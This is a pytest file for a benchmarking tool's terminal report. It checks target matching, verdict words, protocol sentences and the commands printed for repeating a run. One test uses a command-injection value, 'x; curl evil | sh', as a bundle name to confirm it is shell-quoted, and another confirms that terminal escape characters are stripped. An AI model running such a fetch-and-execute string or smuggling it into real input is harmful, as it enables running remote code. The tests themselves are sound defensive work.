import io

import pytest
import records
from rich.console import Console

from edgekit.report.bench_facts import facts_rows
from edgekit.report.bench_terminal import print_bench
from edgekit.report.bench_words import protocol_lines, repeat_commands, stand, why_not_the_target

PI3 = {**records.PI4, "core": "Cortex-A53", "cpu_model": "Cortex-A53"}
CLOUD = {
    "board": None,
    "cpu_model": "AMD EPYC",
    "arch": "x86_64",
    "core": None,
    "cores": 2,
    "governor": None,
    "emulated": False,
}
QEMU = {**records.PI4, "emulated": True, "emulated_how": "the kernel runs this process in qemu-aarch64"}


def printed(result, manifest, width=80, **more):
    stream = io.StringIO()
    print_bench(result, manifest, Console(file=stream, width=width, highlight=False), **more)
    return "\n".join(line.rstrip() for line in stream.getvalue().splitlines())


def cool(result):
    """The same record from a machine that tells no temperature."""
    return {**result, "snapshots": [{**state, "temperature_c": None} for state in result["snapshots"]]}


def test_a_benchmark_elsewhere_says_whose_figures_these_are_and_how_to_get_the_targets():
    result = cool(records.bench(samples=records.latencies(100), machine=CLOUD))
    assert (
        printed(result, records.manifest(), report=records.Path("dist/bench.html"))
        == """
MEASURED HERE  digits-rpi4: these are the figures of this machine, not of rpi4:
it is x86_64, rpi4 is aarch64
predicted for rpi4 by the build: latency p50 10.9 ms and latency p90 12.1 ms
to measure on rpi4: `edgekit bench digits-rpi4 --on ssh://USER@HOST`, or copy
the bundle there and run `python run.py --bench` in it

latency p50   1.71 ms       100 runs in 0.2 s, protocol quick, 4 threads
latency p90   2.01 ms       99 % sure that the true one is not above this
latency p99   not given     100 runs cannot carry it, at least 662 are needed
slowest run   3.39 ms
first call    3.91 ms       after 22.4 ms to load the model and 153 ms to import
                            the runtime
peak memory   43.7 MB       of a process of its own; 31.2 MB before the model
                            was loaded

machine: AMD EPYC, x86_64, 2 cores
report: dist/bench.html"""
    )


def test_a_benchmark_on_the_target_is_judged_and_its_doubts_come_before_the_figures():
    warning = "the clock fell from 1800 to 1500 MHz during the run"
    note = "the clock governor is ondemand, not performance"
    text = printed(
        records.bench(machine=records.PI4, warnings=[warning], notes=[note]), records.manifest(), 120
    )
    machine = "Raspberry Pi 4 Model B Rev 1.4, aarch64, 4 Cortex-A72 cores"
    assert text.startswith(f"\nMET  digits-rpi4: measured on rpi4: {machine}; something else")
    assert text.index(f"warning: {warning}") < text.index("latency p50")
    assert "latency p90        20 ms     1.87 ms   measured   MET" in text
    assert f"note: {note}" in text


def test_emulated_time_is_never_the_targets():
    standing = stand(records.bench(machine=QEMU), records.manifest())
    assert (standing.word, standing.verdicts) == ("EMULATED", ())
    assert "where time is not real" in standing.lead


@pytest.mark.parametrize(
    ("machine", "device", "reason"),
    [
        (records.PI4, {}, ""),
        (PI3, {}, "its core is Cortex-A53, that of rpi4 is Cortex-A72"),
        ({**records.PI4, "cores": 2}, {}, "it has 2 cores, rpi4 has 4"),
        ({**records.PI4, "cores": 1}, {}, "it has 1 core, rpi4 has 4"),
        ({**records.PI4, "board": None}, {}, ""),
        (
            {**PI3, "board": "Raspberry Pi 3 Model B Rev 1.2"},
            {"target": "rpi-zero2w", "core": "Cortex-A53", "board": "Raspberry Pi Zero 2"},
            "it is a Raspberry Pi 3 Model B Rev 1.2, rpi-zero2w is a Raspberry Pi Zero 2",
        ),
        (PI3, {"core": "Cortex-A53", "board": ""}, ""),
        ({**records.PI4, "core": None}, {}, "its core is unknown, that of rpi4 is Cortex-A72"),
        (CLOUD, {}, "it is x86_64, rpi4 is aarch64"),
        (CLOUD, {"target": "x86-cpu", "arch": "x86_64", "core": "", "cores": 4, "local": True}, ""),
        (
            records.PI4,
            {"target": "x86-cpu", "arch": "x86_64", "local": True},
            "it is aarch64, x86-cpu is x86_64",
        ),
    ],
)
def test_figures_are_the_targets_only_where_nothing_speaks_against_it(machine, device, reason):
    facts = records.bench(samples=[1.0], machine=machine)["facts"]
    assert why_not_the_target(facts, records.manifest(**device)["device"]) == reason


def test_a_missed_limit_on_the_target_is_not_met():
    budget = records.Cost(latency_p90_ms=records.limit(1.0))
    standing = stand(records.bench(machine=records.PI4), records.manifest(budget))
    assert standing.word == "NOT MET"
    assert standing.lead.endswith("4 Cortex-A72 cores; latency p90 is above the limit")


def test_a_limit_on_a_percentile_that_the_runs_cannot_carry_is_unproven():
    budget = records.Cost(latency_p99_ms=records.limit(100.0))
    result = records.bench(samples=records.latencies(100), machine=records.PI4)
    standing = stand(result, records.manifest(budget))
    assert standing.word == "UNPROVEN"
    assert standing.lead.endswith("; latency p99 is not decided")


def test_without_a_budget_there_is_nothing_to_judge():
    standing = stand(records.bench(machine=records.PI4), records.manifest(records.Cost()))
    assert standing.word == "MEASURED"
    assert standing.lead.endswith("the bundle names no limit")


def test_the_protocol_is_told_in_sentences():
    result = records.bench()
    lines = " ".join(protocol_lines({**result, "golden_lowest_snr_db": None}))
    assert "the outputs are equal" in lines
    assert "until the time of a call had settled" in lines
    assert "were kept" not in lines
    result["protocol"]["runs"] = 100_000
    result["protocol"]["warm_up"]["steady"] = False
    lines = " ".join(protocol_lines(result))
    assert "of the runs, 2000 were kept, chosen at random, in their order" in lines
    assert "and the time had not settled" in lines


def test_the_commands_to_repeat_it_name_the_mode_and_other_threads():
    result = records.bench(mode="strict")
    result["protocol"]["threads"] = 1
    assert repeat_commands(result, records.manifest()) == (
        "edgekit bench digits-rpi4 --strict --threads 1\n"
        "cd digits-rpi4 && python run.py --bench --strict --threads 1"
    )
    assert "--" not in repeat_commands(records.bench(mode="standard"), records.manifest()).replace(
        "--bench", ""
    )


def test_a_bundles_name_in_a_command_is_one_word_of_the_shell():
    manifest = {**records.manifest(), "name": "x; curl evil | sh"}
    first, second = repeat_commands(records.bench(), manifest).splitlines()
    assert first == "edgekit bench 'x; curl evil | sh' --quick"
    assert second == "cd 'x; curl evil | sh' && python run.py --bench --quick"


def test_a_sustained_benchmark_tells_in_a_sentence_and_in_blocks_what_became_of_it():
    text = printed(records.sustained(machine=records.PI4), records.manifest(), 130)
    told = text.partition("In the long run\n")[2].splitlines()
    assert told[0] == (
        "steady from 3 min 0 s on; latency p50 there is 1.30 times that of the first minute; "
        "it throttled: the clock fell from 1800 to 1385"
    )
    name, latency, span = told[2].rsplit("   ", 2)
    assert (name.strip(), span) == ("latency p50", "10 ms to 13 ms")
    assert latency.strip().startswith("▁▁▁▁")
    assert latency.endswith("████")
    assert "protocol sustained" in text
    assert "MET" in text


def test_a_machine_that_tells_nothing_leaves_open_whether_it_throttled():
    text = " ".join(printed(records.sustained([5.0] * 60, warm=False), records.manifest(), 130).split())
    assert "steady from the start; latency p50 there is the same as in the first minute" in text
    assert "whether it throttled this machine does not tell" in text
    assert "temperature " not in text


def test_a_run_that_never_is_steady_says_so():
    never = records.sustained([5.0 * 1.02**number for number in range(60)], warm=False)
    text = " ".join(printed(never, records.manifest(), 130).split())
    assert "not steady after 10 min 0 s: judged from 6 min 40 s on" in text


def test_a_sustained_run_is_repeated_as_long():
    assert repeat_commands(records.sustained(), records.manifest()) == (
        "edgekit bench digits-rpi4 --sustained 600s\ncd digits-rpi4 && python run.py --bench --sustained 600"
    )
    lines = " ".join(protocol_lines(records.sustained()))
    assert "steady from the first window on after which every median" in lines
    assert "the percentiles rest on 2" in lines


def test_facts_that_the_system_does_not_tell_are_left_out():
    rows = dict(facts_rows(cool(records.bench(machine=CLOUD))))
    assert "board" not in rows
    assert "temperature" not in rows
    assert "clock governor" not in rows
    assert rows["processor"] == "AMD EPYC"
    assert "highest clock" in dict(facts_rows(records.bench(machine=records.PI4)))


def test_hostile_words_in_a_record_stay_words():
    machine = {**records.PI4, "board": records.HOSTILE, "governor": records.HOSTILE}
    result = records.bench(machine=machine, warnings=[records.HOSTILE], notes=[records.HOSTILE])
    text = printed(result, {**records.manifest(), "name": records.HOSTILE}, width=60)
    assert "\x1b" not in text
    assert "\x07" not in text
    assert "\u202e" not in text
